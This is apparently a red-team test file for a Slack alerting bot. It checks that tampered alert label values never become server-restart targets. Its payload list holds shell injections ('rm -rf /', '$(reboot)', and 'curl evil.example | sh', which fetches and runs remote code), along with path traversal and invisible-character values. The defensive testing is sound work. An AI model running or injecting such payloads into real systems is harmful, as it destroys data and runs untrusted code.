import { afterEach, describe, expect, it } from 'vitest';
import { type BotHarness, startBot } from '../slack/harness.ts';
import { alertmanager, HOOKS, postAlert, TOKEN } from './support.ts';

/**
 * Red team: label values no alerting system writes for a host — a shell command after the name,
 * a path around it, an encoded NUL, an invisible character inside it — sent with a valid token.
 * The labels are where an alert's restart target comes from, so a value that is not a host name
 * names no target: its server is at most context, shown, never proposed for a restart.
 */

const TAMPERED = [
  'payment-server-01; rm -rf /',
  'payment-server-01 && curl evil.example | sh',
  '$(reboot) payment-server-01',
  '../payment-server-01',
  'payment-server-01/..',
  'payment-server-01%00',
  'payment-server-01\u200B',
  'payment-server-01\u202E',
  'payment-server-01\nseverity=critical',
  '<!channel> payment-server-01',
  '*',
  '..',
];

const open: BotHarness[] = [];
afterEach(async () => {
  await Promise.all(open.splice(0).map((h) => h.close()));
});

async function proposalsFor(instance: string): Promise<string[]> {
  const h = await startBot({ env: { ALERT_WEBHOOK_TOKEN: TOKEN, ALERT_WEBHOOK_CHANNEL: HOOKS } });
  open.push(h);
  const sent = await postAlert(
    h,
    'alertmanager',
    alertmanager(
      'firing',
      { alertname: 'HighCPU', instance, severity: 'critical' },
      { summary: 'CPU above 95%' },
      'fp-label',
    ),
  );
  expect(sent.status).toBe(202);
  const incident = String((sent.json.incidents as string[])[0]);
  await h.slack.waitFor(
    (s) => s.callsTo('chat.postMessage').some((c) => /SEV/.test(String(c.args.text))),
    10_000,
    'the brief',
  );
  const proposals = await h.store.proposals.forIncident(incident);
  await h.close();
  open.splice(open.indexOf(h), 1);
  return proposals.map((p) => p.serverId);
}

describe('red team: label values that are no host name', () => {
  it('a tampered label names no restart target; a host as exporters write it still does', async () => {
    // The control: host:port, as node_exporter's instance label is written.
    expect(await proposalsFor('payment-server-01:9100')).toEqual(['payment-server-01']);
    const through: string[] = [];
    for (const value of TAMPERED)
      if ((await proposalsFor(value)).length > 0) through.push(JSON.stringify(value));
    console.log(
      `tampered labels: ${TAMPERED.length} tried → ${through.length} named a restart target\n${through.join('\n')}`,
    );
    expect(through).toEqual([]);
  }, 120_000);
});
